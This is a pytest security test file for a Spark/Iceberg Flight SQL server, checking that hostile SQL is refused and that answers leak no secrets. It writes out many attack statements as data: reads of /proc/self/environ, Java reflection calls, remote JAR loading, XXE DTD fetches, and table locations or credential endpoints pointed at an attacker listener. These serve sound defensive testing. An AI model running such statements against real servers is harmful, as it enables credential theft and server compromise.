"""SQL that tries to read credentials, to send them somewhere, or to reach the server itself. Statements are data.

`{port}` is the attacker's listener: it must never hear anything. `{folder}` is the driver's own folder, `{table}` a table of the
attacker's own, in which all is allowed.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from adbc_driver_flightsql import dbapi as flightsql
from clients import Addresses, log_lines
from hostile import Listener
from running import RunningServer, refusal, rows

REFUSED: dict[str, list[str]] = {
    # Settings, where catalogs keep what they are given.
    "INVALID_SESSION_PROPERTY": [
        "SET -v",
        "SET spark.sql.catalog.lake.token",
        "SET spark.sql.catalog.lake.uri",
        "SET sqe.session",
        "SET `spark.sql.catalog.lake.sqe.session` = 0123456789abcdef",
        "SET spark.sql.catalog.lake.uri = http://127.0.0.1:{port}",
        "SET spark.sql.catalog.lake.header.Authorization = x",
        "SET spark.sql.catalog.evil = org.apache.iceberg.spark.SparkCatalog",
        "SET spark.sql.variable.substitute = true",
        "SET spark.sql.redaction.options.regex = x",
        "SET fs.s3a.secret.key",
        "RESET spark.sql.catalog.lake.rest.auth.type",
        "RESET spark.sql.catalog.lake",
    ],
    # The server's classes.
    "FUNCTION_NOT_FOUND": [
        "SELECT system.builtin.reflect('java.lang.System', 'lineSeparator')",
        "SELECT reflect('java.lang.System', 'getenv', 'PATH')",
        "SELECT java_method('java.lang.System', 'getProperty', 'user.home')",
        "SELECT try_reflect('org.apache.spark.sql.sqe.CatalogTokens', 'of', 'a', 'lake')",
        "SELECT IDENTIFIER('ref' || 'lect')('java.lang.System', 'lineSeparator')",
        "SELECT transform(array('java.lang.System'), x -> reflect(x, 'lineSeparator'))",
        "CREATE TEMPORARY VIEW loot AS SELECT reflect('java.lang.System', 'getenv', 'PATH') AS a",
        "CALL lake.system.rewrite_data_files(table => '{table}', where => 'reflect(\"java.lang.System\", \"exit\") = colour')",
    ],
    # The server's files, programs and network.
    "NOT_SUPPORTED": [
        "CREATE TABLE lake.alice.loot (a INT) TBLPROPERTIES ('encryption.key-id' = 'http://127.0.0.1:{port}/key')",
        "CREATE TABLE lake.alice.loot (a INT) USING iceberg OPTIONS ('encryption.key-id' = 'http://127.0.0.1:{port}/key')",
        "ALTER TABLE {table} SET TBLPROPERTIES ('Encryption.Key-Id' = 'http://127.0.0.1:{port}/key')",
        "SELECT TRANSFORM(1) USING 'cat /proc/self/environ' AS (a)",
        "CALL lake.system.rewrite_data_files(table => '{table}', "
        "where => 'id IN (SELECT TRANSFORM(1) USING ''cat /proc/self/environ'' AS (a))')",
        "CREATE TEMPORARY VIEW loot USING text OPTIONS (path 'file:///proc/self/environ')",
        "CREATE TEMPORARY VIEW loot USING binaryFile OPTIONS (path 'file://{folder}')",
        "CREATE TEMPORARY VIEW loot USING iceberg OPTIONS (path 'http://127.0.0.1:{port}/table')",
        "CREATE TEMPORARY VIEW loot USING jdbc OPTIONS (url 'jdbc:sqlite:{folder}/x', dbtable 'x')",
        "CREATE TABLE lake.alice.loot (a STRING) USING text",
        "CREATE TABLE lake.alice.loot (a INT) USING jdbc OPTIONS (url 'jdbc:postgresql://127.0.0.1:{port}/x', dbtable 'y')",
        "CREATE FUNCTION loot AS 'org.apache.spark.sql.sqe.CatalogTokens' USING JAR 'http://127.0.0.1:{port}/evil.jar'",
        "CREATE TEMPORARY FUNCTION loot AS 'java.lang.System'",
        "ADD JAR 'http://127.0.0.1:{port}/evil.jar'",
        "ADD FILE 'file:///proc/self/environ'",
        "LIST FILES",
        "CREATE GLOBAL TEMPORARY VIEW loot AS SELECT 1",
        "CACHE TABLE {table}",
        "INSERT OVERWRITE DIRECTORY 's3://lake/bob' USING parquet SELECT 1",
        "LOAD DATA INPATH 'file:///proc/self/environ' INTO TABLE {table}",
        "EXECUTE IMMEDIATE 'SET -v'",
        "DESCRIBE TABLE EXTENDED {table} AS JSON",
        "SELECT from_xml('<a/>', 'b INT', map('rowValidationXSDPath', 'http://127.0.0.1:{port}/x.xsd'))",
        "SELECT from_xml('<a/>', 'b INT', map('rowValidation' || 'XSDPath', 'file:///proc/self/environ'))",
        "SELECT schema_of_xml('<a/>', map('ROWVALIDATIONXSDPATH', 'http://127.0.0.1:{port}/x.xsd'))",
        "SELECT from_xml('<a/>', schema_of_xml('<a/>', map('rowValidationXSDPath', 'http://127.0.0.1:{port}/x.xsd')))",
        "ALTER TABLE {table} SET SERDEPROPERTIES ('s3.endpoint' = 'http://127.0.0.1:{port}')",
    ],
    "INVALID_ARGUMENTS": [
        "SELECT xpath_string('<!DOCTYPE a SYSTEM \"http://127.0.0.1:{port}/a.dtd\"><a/>', 'a')",
        "SELECT xpath_string('<!DOCTYPE a SYSTEM \"file:///proc/self/environ\"><a/>', 'a')",
        "SELECT xpath_string('<!DOCTYPE a PUBLIC \"x\" \"jar:http://127.0.0.1:{port}/x!/y\"><a/>', 'a')",
        "SELECT xpath('<a/>', 'document(\"http://127.0.0.1:{port}/\")')",
    ],
    "TABLE_NOT_FOUND": [
        "SELECT * FROM text.`file:///proc/self/environ`",
        "SELECT * FROM binaryFile.`{folder}`",
        "SELECT * FROM iceberg.`http://127.0.0.1:{port}/table`",
        "SELECT * FROM `org.apache.iceberg.spark.source.IcebergSource`.`s3://lake/bob/x`",
        "SELECT * FROM jdbc.`jdbc:sqlite:{folder}/x`",
        "SELECT * FROM lake.`s3://lake/alice/loot`",
        "SELECT * FROM lake.alice.`../bob/x`",
        "SELECT * FROM lake.alice.`%2e%2e/bob`",
        "SELECT * FROM global_temp.loot",
        "SELECT * FROM spark_catalog.default.loot",
        "SELECT * FROM {table}.properties",
        "DESCRIBE TABLE EXTENDED lake.bob.anything",
    ],
    # Places and classes that a table's properties name.
    "PERMISSION_DENIED": [
        "CREATE TABLE lake.alice.loot (a INT) LOCATION 's3://attacker/loot'",
        "CREATE TABLE lake.alice.loot (a INT) TBLPROPERTIES ('write.data.path' = 's3://attacker/loot')",
        "CREATE TABLE lake.alice.loot (a INT) USING iceberg OPTIONS ('write.data.path' = 's3://attacker/loot')",
        "CREATE TABLE lake.alice.loot USING iceberg OPTIONS ('write.location-provider.impl' = 'java.lang.String') AS SELECT 1",
        "CREATE OR REPLACE TABLE lake.alice.loot (a INT) USING iceberg OPTIONS ('path' = 'file:///proc/self')",
        "ALTER TABLE {table} SET TBLPROPERTIES ('write.object-storage.path' = 's3://attacker/loot')",
        "ALTER TABLE {table} SET TBLPROPERTIES ('write.location-provider.impl' = 'java.lang.String')",
        "ALTER TABLE {table} SET LOCATION 's3://lake/bob/x'",
        "CREATE SCHEMA lake.loot LOCATION 's3://attacker/'",
        "CALL lake.system.register_table(table => 'alice.loot', metadata_file => 'http://127.0.0.1:{port}/m.json')",
        "CALL lake.system.add_files(table => '{table}', source_table => '`text`.`file:///proc/self/environ`')",
        "CALL lake.system.snapshot(source_table => 'spark_catalog.default.x', table => 'alice.loot')",
        "CALL lake.system.rewrite_table_path(table => 'x', source_prefix => 's3://lake', target_prefix => 'http://127.0.0.1:{port}')",
        "CALL lake.system.no_such_procedure(token => '${{spark.sql.catalog.lake.token}}')",
    ],
    # Arguments that errors quote.
    "GENERIC_USER_ERROR": [
        "CALL lake.system.rewrite_data_files(table => '{table}', options => map('uri', 'http://127.0.0.1:{port}'))",
        "CALL lake.system.compute_table_stats(table => '{table}', columns => array('${{env:PATH}}'))",
        "CALL spark_catalog.system.ancestors_of('x')",
        "INSERT INTO {table} WITH ('write-format' = '${{spark.sql.catalog.lake.uri}}') VALUES (2, 'x')",
    ],
    "SYNTAX_ERROR": [
        "CALL lake.system.ancestors_of('file:///proc/self/environ')",
        "SELECT 1; SET -v",
    ],
}  # fmt: skip

# Allowed, and their answers hold nothing.
HARMLESS = [
    "SET",
    "SHOW SESSION",
    "SHOW CATALOGS",
    "SHOW SCHEMAS",
    "SHOW TBLPROPERTIES {table}",
    "SHOW TBLPROPERTIES {table} ('s3.secret-access-key')",
    "SHOW TBLPROPERTIES {table} ('sqe.session')",
    "SHOW CREATE TABLE {table}",
    "SHOW TABLE EXTENDED IN lake.alice LIKE 'loot_box'",
    "DESCRIBE TABLE EXTENDED {table}",
    "DESCRIBE SCHEMA EXTENDED lake.alice",
    "DESCRIBE EXTENDED lake.alice.loot_view",
    "SHOW CREATE TABLE lake.alice.loot_view",
    "EXPLAIN EXTENDED SELECT * FROM {table}",
    "EXPLAIN FORMATTED SELECT * FROM lake.alice.loot_view",
    "EXPLAIN COST SELECT * FROM {table}",
    "EXPLAIN CODEGEN SELECT id FROM {table} WHERE id > 0",
    "EXPLAIN EXTENDED INSERT INTO {table} SELECT * FROM {table}",
    "EXPLAIN EXTENDED CREATE TABLE lake.alice.loot AS SELECT 1 AS a",
    "EXPLAIN EXTENDED CALL lake.system.ancestors_of('alice.loot_box')",
    "EXPLAIN EXTENDED SET -v",
    "EXPLAIN EXTENDED SET spark.sql.catalog.lake.uri",
    "SELECT * FROM {table}.metadata_log_entries",
    "SELECT * FROM {table}.snapshots",
    "SELECT * FROM {table}.files",
    "SELECT * FROM {table}.all_manifests",
    "SELECT *, _file, input_file_name() FROM {table}",
    "SELECT current_catalog(), current_user(), session_user(), current_schema(), version()",
    "SELECT '${{spark.sql.catalog.lake.uri}}', '${{env:PATH}}', '${{system:user.home}}', '${{hiveconf:x}}'",
    "SELECT `${{env:PATH}}` FROM VALUES (1) AS t(`${{env:PATH}}`)",
    "SELECT * FROM {table} WITH ('s3.endpoint' = 'http://127.0.0.1:{port}', 'uri' = 'http://127.0.0.1:{port}', 'path' = 'x')",
    "SELECT xpath('<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://127.0.0.1:{port}/\"> %x;]><a><b>1</b></a>', 'a/b/text()')",
    "SELECT xpath_string('<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///proc/self/environ\">]><a>&x;</a>', 'a')",
    "SELECT from_xml('<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///proc/self/environ\">]><a><b>&x;</b></a>', 'b STRING')",
    "SELECT from_json('{{\"a\": \"${{env:PATH}}\"}}', 'a STRING')",
]  # fmt: skip

# Properties that mean something to a catalog or a store when these are configured; on a table they must mean nothing.
TREACHEROUS = {
    "s3.endpoint": "http://127.0.0.1:{port}",
    "uri": "http://127.0.0.1:{port}",
    "credentials.uri": "http://127.0.0.1:{port}",
    "client.refresh-credentials-endpoint": "http://127.0.0.1:{port}/keys",
    "client.credentials-provider": "software.amazon.awssdk.auth.credentials.AnonymousCredentialsProvider",
    "client.factory": "java.lang.String",
    "io-impl": "org.apache.iceberg.hadoop.HadoopFileIO",
    "rest.auth.type": "none",
    "header.Authorization": "Bearer x",
    "s3.signer.uri": "http://127.0.0.1:{port}",
    "s3.remote-signing-enabled": "true",
    "metrics-reporter-impl": "java.lang.String",
    "encryption.kms-impl": "java.lang.String",
    "fs.s3.impl": "java.lang.String",
    "orc.encrypt": "key:colour",
    "hadoop.security.key.provider.path": "kms://http@127.0.0.1:{port}/kms",
    "parquet.crypto.factory.class": "java.lang.String",
    "sqe.session": "0123456789abcdef",
    "sqe.catalog": "other",
}

TABLE = "lake.alice.loot_box"


@pytest.fixture(scope="module")
def alice(server: RunningServer) -> Iterator[flightsql.Connection]:
    with server.connected("alice") as connection:
        rows(connection, "CREATE SCHEMA IF NOT EXISTS lake.alice")
        rows(connection, f"CREATE OR REPLACE TABLE {TABLE} AS SELECT 1L AS id, 'red' AS colour")
        rows(connection, f"CREATE OR REPLACE VIEW lake.alice.loot_view AS SELECT * FROM {TABLE}")
        yield connection
        rows(connection, "DROP VIEW lake.alice.loot_view")
        rows(connection, f"DROP TABLE {TABLE}")


@pytest.fixture(scope="module")
def secrets(server: RunningServer, alice: flightsql.Connection, lake: Addresses) -> list[str]:
    """What no answer may hold. Of the keys that the catalog vended the ids are known here; secrets would come with them."""
    asked = log_lines(lake["gateway"]["audit"])[-1000:]
    vended = {line["vended"] for line in asked if line["vended"]}
    assert vended
    environment = [f"{name}={value}" for name, value in server.driver().environ().items()]
    return [*vended, *environment, "sqe-secret", "alice-password", "eyJ", "rest.auth", "SessionAuth", "sqe.catalog"]


def given(statement: str, server: RunningServer, listener: Listener) -> str:
    return statement.format(port=listener.port, folder=server.driver().cwd(), table=TABLE)


@pytest.mark.parametrize(("code", "statement"), [(code, each) for code, many in REFUSED.items() for each in many])
def test_refused_with_a_sentence_that_says_no_secret(
    server: RunningServer, alice: flightsql.Connection, secrets: list[str], listener: Listener, code: str, statement: str
) -> None:
    sql = given(statement, server, listener)
    told = refusal(alice, sql)
    assert re.match(rf"\w+: \[FlightSQL\] {code}: ", told), told
    assert not leaked(told, [word for word in secrets if word not in sql])


@pytest.mark.parametrize("statement", HARMLESS)
def test_answered_without_a_secret(
    server: RunningServer, alice: flightsql.Connection, secrets: list[str], listener: Listener, statement: str
) -> None:
    sql = given(statement, server, listener)
    assert not leaked(str(rows(alice, sql)), [word for word in secrets if word not in sql])


def leaked(text: str, secrets: list[str]) -> list[str]:
    return [secret for secret in secrets if secret in text]


@pytest.mark.parametrize("how", ["TBLPROPERTIES", "OPTIONS", "ALTER", "schema"])
def test_a_table_s_own_properties_lead_nowhere(alice: flightsql.Connection, listener: Listener, how: str) -> None:
    """Written and read with all such properties, the table works as ever; nobody else is asked."""
    pairs = ", ".join(f"'{name}' = '{value.format(port=listener.port)}'" for name, value in TREACHEROUS.items())
    create = "CREATE OR REPLACE TABLE lake.alice.treacherous (id INT, colour STRING) USING iceberg"
    made = {
        "TBLPROPERTIES": [f"{create} TBLPROPERTIES ('format-version' = '3', {pairs})"],
        "OPTIONS": [f"{create} OPTIONS ({pairs}) TBLPROPERTIES ('format-version' = '3')"],
        "ALTER": [create, f"ALTER TABLE lake.alice.treacherous SET TBLPROPERTIES ({pairs})"],
        "schema": [create, f"ALTER SCHEMA lake.alice SET DBPROPERTIES ({pairs})"],
    }
    for statement in made[how]:
        rows(alice, statement)
    for written in ("parquet", "orc", "avro"):
        rows(alice, f"ALTER TABLE lake.alice.treacherous SET TBLPROPERTIES ('write.format.default' = '{written}')")
        rows(alice, "INSERT INTO lake.alice.treacherous VALUES (1, 'red')")
    assert rows(alice, "SELECT count(*) FROM lake.alice.treacherous WHERE colour = 'red'") == [(3,)]
    assert rows(alice, "SELECT count(*) FROM lake.alice.treacherous.files") == [(3,)]
    if how == "schema":
        names = ", ".join(f"'{name}'" for name in TREACHEROUS)
        rows(alice, f"ALTER SCHEMA lake.alice UNSET DBPROPERTIES ({names})")
    rows(alice, "DROP TABLE lake.alice.treacherous")


def test_sessions_cannot_be_read_or_joined_by_their_ids(server: RunningServer, alice: flightsql.Connection, canary: str) -> None:
    """Ids are in the server's log. Bob knows alice's, and it is of no use to him."""
    rows(alice, "SELECT 'of alice' AS marker")
    lines = [line for line in server.log.read_text().splitlines() if "of alice" in line]
    found = re.search(r'"session_id": "(\w+)"', lines[-1])
    assert found
    with server.connected("bob") as bob:
        for statement in (f"SET sqe.session = {found[1]}", f"KILL QUERY '{found[1]}'", f"SELECT * FROM {canary}"):
            refusal(bob, statement)
        missing = refusal(bob, "KILL QUERY 'nothing'")
        assert refusal(bob, f"KILL QUERY '{found[1]}'") == missing.replace("nothing", found[1])


def test_views_do_not_lend_their_maker_s_rights(server: RunningServer, alice: flightsql.Connection) -> None:
    """A view runs as whoever reads it: bob's view over alice's table shows bob nothing, whatever catalogs it names."""
    with server.connected("bob") as bob:
        rows(bob, "CREATE SCHEMA IF NOT EXISTS lake.bob")
        told = refusal(bob, f"CREATE VIEW lake.bob.window AS SELECT * FROM {TABLE}")
        assert told == refusal(bob, "CREATE VIEW lake.bob.window AS SELECT * FROM lake.noone.loot_box").replace("noone", "alice")


def test_views_carry_no_settings(alice: flightsql.Connection) -> None:
    """Spark's own views keep settings among their properties, and come back with them."""
    settings = {"spark.sql.variable.substitute": "true", "spark.sql.runSQLOnFiles": "true"}
    pairs = ", ".join(f"'view.sqlConfig.{name}' = '{value}'" for name, value in settings.items())
    rows(alice, f"CREATE OR REPLACE VIEW lake.alice.configured TBLPROPERTIES ({pairs}) AS SELECT '${{env:PATH}}' AS path")
    assert rows(alice, "SELECT * FROM lake.alice.configured") == [("${env:PATH}",)]
    rows(alice, "DROP VIEW lake.alice.configured")


def test_the_list_is_long_enough() -> None:
    assert sum(map(len, REFUSED.values())) + len(HARMLESS) >= 100
